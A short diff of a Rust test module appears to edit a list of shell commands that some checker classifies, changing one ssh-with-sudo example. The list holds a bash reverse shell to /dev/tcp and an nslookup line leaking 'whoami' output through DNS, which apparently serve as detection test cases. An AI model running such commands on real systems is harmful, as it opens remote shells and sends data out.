@@ -415,7 +415,7 @@ mod tests {
                 "bash -i >& /dev/tcp/1.2.3.4/1 0>&1",
                 "telnet h 23",
                 "nslookup $(whoami).h.example",
-                "ssh h 'sudo ls'",
+                "ssh h 'sudo make install'",
             ],
             &[
                 "curl http://h/x",
